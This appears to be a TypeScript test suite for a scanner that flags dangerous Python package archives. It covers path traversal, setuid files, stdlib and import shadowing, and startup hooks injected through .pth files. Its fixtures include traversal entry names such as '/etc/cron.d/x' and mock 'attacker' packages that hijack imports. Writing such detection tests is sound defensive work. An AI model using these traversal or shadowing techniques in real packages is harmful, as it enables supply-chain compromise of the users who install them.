    // 2 001 components each: the 100th link runs past the 200 000-step budget.
    const links: Entry[] = Array.from({ length: 100 }, (_, i) => ({ name: `l${i}`, type: 'symlink', linkname: `${'./'.repeat(2000)}x` }));
    const tooLong = 'a/'.repeat(2048);
    const result = await scan([...links, { name: 'long', type: 'symlink', linkname: tooLong }], { knownGoodPth: [] });

    expect(special(result)).toEqual([
      [null, { path: 'l99', linkname: `${'./'.repeat(2000)}x`, reason: 'symlink too complex to resolve' }],
      [null, { path: 'long', linkname: tooLong, reason: 'invalid symlink target' }],
    ]);
  });

  it('reports an unrecorded symlink as unrecorded too', async () => {
    const result = await scan([{ name: 'stray', type: 'symlink', linkname: 'six.py' }]);
    expect(result.findings).toEqual([expect.objectContaining({ rule: 'static.unrecorded-file', package: null, evidence: { path: 'stray', claimedBy: [] } })]);
  });

  it('reports hardlinks, setuid and setgid bits, fifos and devices', async () => {
    const result = await scan([
      ...dist('evil', { 'evil/core.py': '' }),
      { name: 'evil/hard', type: 'link', linkname: 'site-packages/evil/core.py' },
      { name: 'evil/tool', content: '#!/bin/sh\n', mode: 0o4755 },
      { name: 'shared/', type: 'directory', mode: 0o2775 },
      { name: 'evil/pipe', type: 'fifo', mode: 0o644 },
      { name: 'evil/tty', type: 'character-device', mode: 0o666, devmajor: 5, devminor: 0 },
      { name: 'evil/disk', type: 'block-device', mode: 0o660, devmajor: 8, devminor: 0 },
    ]);

    expect(special(result)).toEqual([
      [null, { path: 'evil/hard', linkname: 'site-packages/evil/core.py', reason: 'hardlink' }],
      [null, { path: 'evil/tool', mode: '4755', reason: 'setuid/setgid' }],
      [null, { path: 'shared', mode: '2775', reason: 'setuid/setgid' }],
      [null, { path: 'evil/pipe', type: 'fifo', reason: 'fifo' }],
      [null, { path: 'evil/tty', type: 'character-device', reason: 'device' }],
      [null, { path: 'evil/disk', type: 'block-device', reason: 'device' }],
    ]);
    // evil/tool is a regular file no RECORD claims; the others are not files or symlinks.
    expect(only(result.findings, 'static.unrecorded-file').map((f) => f.evidence)).toEqual([{ path: 'evil/tool', claimedBy: [] }]);
    expect(result.files.filter((f) => f.type === 'other').map((f) => f.path)).toEqual(['evil/pipe', 'evil/tty', 'evil/disk']);
  });

  it('attributes a setuid file to the distribution that records it', async () => {
    const result = await scan(dist('evil', { 'evil/tool': '#!/bin/sh\n' }).map((e) => (e.name === 'evil/tool' ? { ...e, mode: 0o6755 } : e)));
    expect(result.findings).toEqual([
      {
        rule: 'static.special-file',
        severity: 'high',
        package: 'evil',
        message: 'evil/tool: setuid/setgid bit set',
        evidence: { path: 'evil/tool', mode: '6755', reason: 'setuid/setgid' },
      },
    ]);
  });

  it('reports unsafe entry names and keeps them out of the file list', async () => {
    const nul = 'site-packages/a\0b';
    const entries: Entry[] = [
      ROOT,
      { name: 'site-packages/../x', content: 'escape' },
      { name: '/etc/cron.d/x', content: 'abs' },
      { name: 'elsewhere/y', content: 'outside' },
      { name: 'site-packages/a/../../z', content: 'dotdot' },
      // A NUL can only arrive through a pax header.
      { name: nul, content: 'nul', pax: {} },
      { name: 'site-packages', content: 'the root as a file' },
    ];
    const result = await scanSitePackages(archive(entries), { knownGoodPth: [] });

    expect(result.findings).toEqual(
      ['site-packages/../x', '/etc/cron.d/x', 'elsewhere/y', 'site-packages/a/../../z', nul, 'site-packages'].map((path) => ({
        rule: 'static.special-file',
        severity: 'high',
        package: null,
        message: `archive entry ${path} has an unsafe path`,
        evidence: { path, type: 'file', reason: 'unsafe path' },
      })),
    );
    expect(result.files).toEqual([]);
  });

  it('reports duplicate entries and entries beneath a non-directory', async () => {
    const result = await scan([
      { name: 'link', type: 'symlink', linkname: 'real' },
      { name: 'real/', type: 'directory' },
      { name: 'dup.txt', content: 'one' },
      { name: 'dup.txt', content: 'two' },
      { name: 'link/inside.txt', content: 'through the link' },
    ]);

    expect(special(result)).toEqual([
      [null, { path: 'dup.txt', type: 'file', reason: 'duplicate entry' }],
      [null, { path: 'link/inside.txt', parent: 'link', reason: 'path through a non-directory' }],
    ]);
    expect(result.files.find((f) => f.path === 'dup.txt')?.sha256).toBe(sha('one').hex);
  });
});

describe('limits and malformed archives', () => {
  it('stops at the file-count cap without draining the rest, and skips the unclaimed check', async () => {
    const entries: Entry[] = [ROOT, ...Array.from({ length: 10 }, (_, i) => ({ name: `site-packages/f${i}.py`, content: `${i}\n` }))];
    // Never finalized: a stream that would never end if the scan kept reading.
    const result = await scanSitePackages(archive(entries, { finalize: false }), { knownGoodPth: [], maxFiles: 3 });

    expect(result.truncated).toBe(true);
    expect(result.files.map((f) => f.path)).toEqual(['f0.py', 'f1.py', 'f2.py']);
    expect(result.findings).toEqual([
      {
        rule: 'resource.disk',
        severity: 'high',
        package: null,
        message: 'the site-packages archive exceeds the scan limit (maxFiles 3); the scan stopped',
        evidence: { files: 4, bytes: 8, limit: 'maxFiles', max: 3 },
      },
    ]);
  });

  it('stops at the byte cap before reading the entry that crosses it', async () => {
    const result = await scan(
      [
        { name: 'small.py', content: 'x' },
        { name: 'big.bin', content: Buffer.alloc(1024) },
      ],
      { maxBytes: 100 },
    );

    expect(result.files.map((f) => f.path)).toEqual(['small.py']);
    expect(result.findings).toEqual([
      expect.objectContaining({ rule: 'resource.disk', package: null, evidence: { files: 2, bytes: 1025, limit: 'maxBytes', max: 100 } }),
    ]);
  });

  it('rejects a malformed archive with an InstallError', async () => {
    const garbage = Readable.from([Buffer.alloc(1024, 0x41)]);
    const error: unknown = await scanSitePackages(garbage, { knownGoodPth: [] }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(InstallError);
    expect((error as InstallError).code).toBe('observe.scan-failed');
  });

  it('rejects with the AbortError when aborted', async () => {
    const controller = new AbortController();
    controller.abort();
    const run = scanSitePackages(archive([ROOT], { finalize: false }), { knownGoodPth: [], signal: controller.signal });
    await expect(run).rejects.toMatchObject({ name: 'AbortError' });
  });

  it('never throws on arbitrary entry names and only lists safe relative paths', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.tuple(
            fc.oneof(fc.string(), fc.constantFrom('site-packages/', '../', '/', './', '..', '.pth', '.dist-info/RECORD')),
            fc.string(),
            fc.constantFrom<Entry['type']>('file', 'directory', 'symlink', 'link', 'fifo'),
          ),
          { maxLength: 8 },
        ),
        async (specs) => {
          const entries: Entry[] = specs.map(([a, b, type]) => {
            const name = `${a}${b}`.replace(/^$/, 'x');
            return type === 'file' ? { name, content: b, pax: {} } : { name, type, linkname: b || 'x', pax: {} };
          });
          const result = await scanSitePackages(archive(entries), { knownGoodPth: [] });
          for (const file of result.files) {
            expect(file.path).not.toBe('');
            expect(file.path.startsWith('/')).toBe(false);
            expect(file.path.includes('\0')).toBe(false);
            expect(file.path.split('/')).not.toContain('..');
          }
        },
      ),
      { numRuns: 100 },
    );
  });
});

describe('static.import-shadowing', () => {
  const victim: DistSpec = { name: 'victim', version: '1.0', files: { 'vmod.py': 'VALUE = 1\n', 'pkg/__init__.py': '', 'pkg/mod.py': 'X = 1\n' } };

  it('names the distribution whose package directory wins over another distribution module', async () => {
    const attacker: DistSpec = { name: 'attacker', version: '1.0', files: { 'vmod/__init__.py': 'import os\n', 'pkg/mod/__init__.py': 'import os\n' } };
    const result = await scan([...distribution(victim), ...distribution(attacker)]);
    expect(result.findings.filter((f) => f.rule === 'static.import-shadowing')).toEqual([
      {
        rule: 'static.import-shadowing',
        severity: 'high',
        package: 'attacker',
        message: "vmod/__init__.py of attacker shadows vmod.py of victim: importing vmod runs attacker's code",
        evidence: { module: 'vmod', path: 'vmod/__init__.py', shadowed: 'victim', shadowedPath: 'vmod.py' },
      },
      {
        rule: 'static.import-shadowing',
        severity: 'high',
        package: 'attacker',
        message: "pkg/mod/__init__.py of attacker shadows pkg/mod.py of victim: importing pkg.mod runs attacker's code",
        evidence: { module: 'pkg.mod', path: 'pkg/mod/__init__.py', shadowed: 'victim', shadowedPath: 'pkg/mod.py' },
      },
    ]);
  });

  it('ranks an extension module above a source file of the same name', async () => {
    const attacker: DistSpec = { name: 'attacker', version: '1.0', files: { 'vmod.cpython-311-x86_64-linux-gnu.so': '\x7fELF' } };
    const result = await scan([...distribution(victim), ...distribution(attacker)]);
    expect(result.findings.map((f) => [f.rule, f.package, f.evidence.module])).toEqual([['static.import-shadowing', 'attacker', 'vmod']]);
  });

  it('passes two distributions sharing a PEP 420 namespace directory with disjoint files', async () => {
    const a: DistSpec = { name: 'ns_a', version: '1.0', files: { 'nsx/a/__init__.py': '', 'nsx/a/core.py': '' } };
    const b: DistSpec = { name: 'ns_b', version: '1.0', files: { 'nsx/b/__init__.py': '', 'nsx/b/core.py': '' } };
    expect((await scan([...distribution(a), ...distribution(b)])).findings).toEqual([]);
  });

  it('ignores files that no import can name', async () => {
    const other: DistSpec = { name: 'other', version: '1.0', files: { 'data-files/vmod.py': '', 'other.data/vmod/__init__.py': '' } };
    expect((await scan([...distribution(victim), ...distribution(other)])).findings).toEqual([]);
  });
});

describe('static.autoload-entry-point', () => {
  it('warns (low) about entry points a tool loads at start, naming the group and the object', async () => {
    const plugin: DistSpec = {
      name: 'pytest_sneaky',
      version: '1.0',
      files: { 'pytest_sneaky.py': '' },
      entryPoints: '[pytest11]\nsneaky = pytest_sneaky\n\n[console_scripts]\nsneaky = pytest_sneaky:main\n',
    };
    expect((await scan(distribution(plugin))).findings).toEqual([
      {
        rule: 'static.autoload-entry-point',
        severity: 'low',
        package: 'pytest-sneaky',
        message: 'pytest-sneaky registers sneaky in pytest11: it runs whenever that tool starts, without an import',
        evidence: { group: 'pytest11', name: 'sneaky', object: 'pytest_sneaky' },
      },
    ]);
  });

  it('says nothing of a tool registering in its own groups', async () => {
    const setuptools: DistSpec = {
      name: 'setuptools',
      version: '69.0',
      files: { 'setuptools/__init__.py': '' },
      entryPoints:
        '[distutils.commands]\nsdist = setuptools.command.sdist:sdist\n\n[egg_info.writers]\nPKG-INFO = setuptools.command.egg_info:write_pkg_info\n',
    };
    expect((await scan(distribution(setuptools))).findings).toEqual([]);
  });
});

describe('reserved names', () => {
  it('refuses a top-level entry named like the manifest the export writes, whatever its type', async () => {
    const squatter: DistSpec = { name: 'squatter', version: '1.0', files: { '.sandbox-install-manifest.json/x.py': '' } };
    const result = await scan(distribution(squatter), { reservedNames: ['.sandbox-install-manifest.json'] });
    expect(result.findings).toEqual([
      {
        rule: 'static.special-file',
        severity: 'high',
        package: 'squatter',
        message: '.sandbox-install-manifest.json: directory named like a file sandbox-install writes into the export',
        evidence: { path: '.sandbox-install-manifest.json', type: 'directory', reason: 'reserved name' },
      },
    ]);
  });
});

describe('import roots: what .pth path lines add to sys.path', () => {
  /** The findings of the rules that judge import roots, as [rule, package, evidence]. */
  const rooted = (result: StaticScan): Array<[string, string | null, Record<string, unknown>]> =>
    result.findings
      .filter((f) => ['static.startup-hook', 'static.stdlib-shadowing', 'static.import-shadowing', 'static.pth-path'].includes(f.rule))
      .map((f) => [f.rule, f.package, f.evidence]);

  it('static.startup-hook: a sitecustomize.py in a directory a .pth adds, naming the root and the .pth', async () => {
    const result = await scan(dist('hooker', { 'hooker.pth': 'hooker_lib\n', 'hooker_lib/sitecustomize.py': 'import os\n', 'hooker/__init__.py': '' }));
    expect(result.findings).toEqual([
      {
        rule: 'static.startup-hook',
        severity: 'high',
        package: 'hooker',
        message: 'hooker_lib/sitecustomize.py runs at every interpreter start (hooker.pth puts hooker_lib on sys.path)',
        evidence: { path: 'hooker_lib/sitecustomize.py', root: 'hooker_lib', pth: 'hooker.pth' },
      },
    ]);
  });

  it('reads path lines as site.addpackage does: right-stripped with Python whitespace, comments, blanks and imports aside', async () => {
    // \x1c and \x85 are whitespace to Python's str.rstrip but not to JavaScript's trimEnd; the
    // second line's hooks live under the name site.py really adds.
    const pth = ['# hidden', '', ' \t', 'import os', 'missing_dir', 'nested/inner\x1c\x85  ', ''].join('\r\n');
    const result = await scan(dist('hooker', { 'hooker.pth': pth, 'nested/inner/usercustomize/__init__.py': '', 'nested/sitecustomize.py': '' }));
    expect(rooted(result)).toEqual([
      ['static.startup-hook', 'hooker', { path: 'nested/inner/usercustomize/__init__.py', root: 'nested/inner', pth: 'hooker.pth' }],
    ]);
  });

  it('attributes an unrecorded hook to the .pth that put its directory on sys.path', async () => {
    const result = await scan([...dist('hooker', { 'hooker.pth': 'lib\n', 'lib/other.py': '' }), { name: 'lib/sitecustomize.py', content: 'import os\n' }]);
    expect(only(result.findings, 'static.startup-hook').map((f) => [f.package, f.evidence])).toEqual([
      ['hooker', { path: 'lib/sitecustomize.py', root: 'lib', pth: 'hooker.pth' }],
    ]);
  });

  it('follows an in-site symlink to the directory it names, and reports one that leads out', async () => {
    const result = await scan([
      ...dist(
        'linker',
        { 'linker.pth': 'alias\nout/sub\n', 'real/sitecustomize.py': '' },
        {
          extraRows: [
            ['alias', '', ''],
            ['out', '', ''],
          ],
        },
      ),
      { name: 'alias', type: 'symlink', linkname: 'real' },
      { name: 'out', type: 'symlink', linkname: '../../..' },
    ]);
    expect(rooted(result)).toEqual([
      ['static.pth-path', 'linker', { path: 'linker.pth', entries: ['out/sub'], reason: 'symlink escapes site-packages' }],
      ['static.startup-hook', 'linker', { path: 'real/sitecustomize.py', root: 'real', pth: 'linker.pth' }],
    ]);
  });

  it('static.pth-path: an in-site line that names a file, which Python would open as a zip', async () => {
    const result = await scan(dist('zipper', { 'zipper.pth': 'payload.zip\n', 'payload.zip': 'PK\x03\x04' }));
    expect(result.findings).toEqual([
      {
        rule: 'static.pth-path',
        severity: 'high',
        package: 'zipper',
        message: 'zipper.pth puts the file payload.zip on sys.path: Python imports from it as a zip archive, which the scan does not open',
        evidence: { path: 'zipper.pth', entries: ['payload.zip'], reason: 'file' },
      },
    ]);
  });

  it('static.pth-path: more added directories than the scan checks', async () => {
    const dirs = Array.from({ length: 70 }, (_, i) => `d${i}`);
    const files = Object.fromEntries(dirs.map((d) => [`${d}/m${d}.py`, '']));
    const result = await scan(dist('many', { 'many.pth': `${dirs.join('\n')}\n`, ...files }));
    expect(rooted(result)).toEqual([['static.pth-path', 'many', { path: 'many.pth', entries: ['d64', 'd65', 'd66'], reason: 'too many directories' }]]);
  });

  it('does not read a .pth inside an added directory: site.py processes .pth files of site dirs only', async () => {
    const result = await scan(dist('nested', { 'nested.pth': 'lib\n', 'lib/inner.pth': 'deeper\nimport os\n', 'lib/deeper/sitecustomize.py': '' }));
    expect(result.findings).toEqual([]);
  });

  it('static.import-shadowing across roots: the root that comes first on sys.path wins', async () => {
    const victim = dist('victim', { 'victim.pth': 'victim_src\n', 'victim_src/vmod/__init__.py': '' });
    const attacker = dist('attacker', { 'aaa.pth': 'aaa_lib\n', 'aaa_lib/vmod.py': 'import os\n' });
    const result = await scan([...victim, ...attacker]);
    expect(rooted(result)).toEqual([
      [
        'static.import-shadowing',
        'attacker',
        {
          module: 'vmod',
          path: 'aaa_lib/vmod.py',
          shadowed: 'victim',
          shadowedPath: 'victim_src/vmod/__init__.py',
          root: 'aaa_lib',
          shadowedRoot: 'victim_src',
        },
      ],
    ]);
  });

  it('static.import-shadowing within an added root, reported once where site-packages sees the same files', async () => {
    // `shared-lib` is no module name: only the root the .pth adds makes these files importable.
    const a = dist('lib_a', { 'shared.pth': 'shared-lib\n', 'shared-lib/mod/__init__.py': '' });
    const b = dist('lib_b', { 'shared-lib/mod.py': '' });
    expect(rooted(await scan([...a, ...b]))).toEqual([
      [
        'static.import-shadowing',
        'lib-a',
        { module: 'mod', path: 'shared-lib/mod/__init__.py', shadowed: 'lib-b', shadowedPath: 'shared-lib/mod.py', root: 'shared-lib', pth: 'shared.pth' },
      ],
    ]);

    // `shared` is one: site-packages imports the pair as shared.mod, the root as mod; one finding.
    const c = dist('lib_c', { 'shared.pth': 'shared\n', 'shared/mod/__init__.py': '' });
    const d = dist('lib_d', { 'shared/mod.py': '' });
    expect(rooted(await scan([...c, ...d]))).toEqual([
      ['static.import-shadowing', 'lib-c', { module: 'shared.mod', path: 'shared/mod/__init__.py', shadowed: 'lib-d', shadowedPath: 'shared/mod.py' }],
    ]);
  });
});

describe('static.stdlib-shadowing', () => {
  it('reports a top-level package, module or extension named like the standard library, blaming its owner', async () => {
    const result = await scan([
      ...dist('json_pkg', { 'json/__init__.py': 'import os\n', 'json/decoder.py': '', 'json.py': '' }),
      ...dist('typing', { 'typing.py': '' }),
      ...dist('fastio', { 'asyncio.cpython-311-x86_64-linux-gnu.so': '\x7fELF', 'queue.abi3.so': '\x7fELF', 'select.so': '\x7fELF', 'enum.pyc': '\xa7\r\r\n' }),
    ]);
    expect(result.findings.filter((f) => f.rule !== 'static.import-shadowing')).toEqual([
      {
        rule: 'static.stdlib-shadowing',
        severity: 'high',
        package: 'json-pkg',
        message: "json/__init__.py takes the standard library's module name json: an import of json can run it instead",
        // The package wins over json.py beside it: one finding, for the code that runs.
        evidence: { path: 'json/__init__.py', module: 'json', root: '.' },
      },
      expect.objectContaining({ rule: 'static.stdlib-shadowing', package: 'typing', evidence: { path: 'typing.py', module: 'typing', root: '.' } }),
      expect.objectContaining({
        rule: 'static.stdlib-shadowing',
        package: 'fastio',
        evidence: { path: 'asyncio.cpython-311-x86_64-linux-gnu.so', module: 'asyncio', root: '.' },
      }),
      expect.objectContaining({ rule: 'static.stdlib-shadowing', package: 'fastio', evidence: { path: 'queue.abi3.so', module: 'queue', root: '.' } }),
      expect.objectContaining({ rule: 'static.stdlib-shadowing', package: 'fastio', evidence: { path: 'select.so', module: 'select', root: '.' } }),
      expect.objectContaining({ rule: 'static.stdlib-shadowing', package: 'fastio', evidence: { path: 'enum.pyc', module: 'enum', root: '.' } }),
    ]);
  });

  it('turns a reviewed backport into a warning only for its distribution, file and exact bytes', async () => {
    const ARGPARSE = '"Command-line parsing library"\n';
    const knownGoodStdlib = [{ distribution: 'argparse', path: 'argparse.py', sha256: sha(ARGPARSE).hex, reason: 'the stdlib module, for older Pythons' }];
    const genuine = await scan(dist('argparse', { 'argparse.py': ARGPARSE }), { knownGoodStdlib });
    expect(genuine.findings).toEqual([
      {
        rule: 'static.stdlib-backport',
        severity: 'low',
        package: 'argparse',
        message: "argparse.py is argparse's reviewed backport of the standard library's argparse: with the export on PYTHONPATH it replaces Python 3.11's own",
        evidence: { path: 'argparse.py', module: 'argparse', root: '.', sha256: sha(ARGPARSE).hex, reason: 'the stdlib module, for older Pythons' },
      },
    ]);
    for (const entries of [dist('argparse', { 'argparse.py': `${ARGPARSE}import os\n` }), dist('argparse_ng', { 'argparse.py': ARGPARSE })]) {
      expect((await scan(entries, { knownGoodStdlib })).findings).toEqual([expect.objectContaining({ rule: 'static.stdlib-shadowing', severity: 'high' })]);
    }
  });

  it('reports one in a directory a .pth adds, with the root and the .pth, and a bare symlink that may be a package', async () => {
    const result = await scan([
      ...dist('sneaky', { 'sneaky.pth': 'sneaky_lib\n', 'sneaky_lib/http/__init__.py': '', 'real_pkg/__init__.py': '' }, { extraRows: [['socket', '', '']] }),
      { name: 'socket', type: 'symlink', linkname: 'real_pkg' },
    ]);
    expect(only(result.findings, 'static.stdlib-shadowing').map((f) => [f.package, f.evidence, f.message])).toEqual([
      [
        'sneaky',
        { path: 'socket', module: 'socket', root: '.' },
        "socket takes the standard library's module name socket: an import of socket can run it instead",
      ],
      [
        'sneaky',
        { path: 'sneaky_lib/http/__init__.py', module: 'http', root: 'sneaky_lib', pth: 'sneaky.pth' },
        "sneaky_lib/http/__init__.py takes the standard library's module name http (sneaky.pth puts sneaky_lib on sys.path): an import of http can run it instead",
      ],
    ]);
  });

  it('says nothing of benign trees: setuptools, namespace dirs, names that merely start like the standard library', async () => {
    const SETUPTOOLS_PTH =
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
    const knownGoodPth = [
      {
        name: 'distutils-precedence.pth',
        sha256: '2638ce9e2500e572a5e0de7faed6661eb569d1b696fcba07b0dd223da5f5d224',
        imports: [{ path: '_distutils_hack/__init__.py', sha256: sha('').hex }],
      },
    ];
    const result = await scan(
      [
        ...dist('setuptools', {
          'distutils-precedence.pth': SETUPTOOLS_PTH,
          '_distutils_hack/__init__.py': '',
          '_distutils_hack/override.py': '',
          'setuptools/__init__.py': '',
          'setuptools/_distutils/__init__.py': '',
          'pkg_resources/__init__.py': '',
        }),
        ...dist('jsonschema', { 'jsonschema/__init__.py': '', 'jsonschema/json/__init__.py': '' }),
        ...dist('typing_extensions', { 'typing_extensions.py': '', '__pycache__/typing_extensions.cpython-311.pyc': '' }),
        ...dist('json5', { 'json5/__init__.py': '', 'json5.py': '' }),
        // A data directory and a namespace portion named like standard-library packages, a stray
        // top-level test package, and a module whose file merely holds a stdlib name.
        ...dist('templates', { 'email/welcome.txt': '', 'xml/schemas/a.xsd': '', 'test/__init__.py': '', 'templates/os.py': '' }),
        // A path-line .pth adding a source dir of ordinary modules.
        ...dist('srcpth', { 'srcpth.pth': 'srcpth_src\n', 'srcpth_src/srcpth/__init__.py': '', 'srcpth_src/html/page.html': '' }),
      ],
      { knownGoodPth },
    );
    expect(result.findings).toEqual([]);
  });

  it('says nothing new of a namespace .pth: only its executable line is reported, as before', async () => {
    const nspkg =
      "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('sphinxcontrib',));ie = os.path.exists(os.path.join(p,'__init__.py'));m = not ie and has_mfs and sys.modules.setdefault('sphinxcontrib', types.ModuleType('sphinxcontrib'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";
    const result = await scan(dist('sphinxcontrib_jsmath', { 'sphinxcontrib_jsmath-1.0.1-py3.7-nspkg.pth': nspkg, 'sphinxcontrib/jsmath/__init__.py': '' }));
    expect(result.findings.map((f) => f.rule)).toEqual(['static.pth-exec']);
  });
});
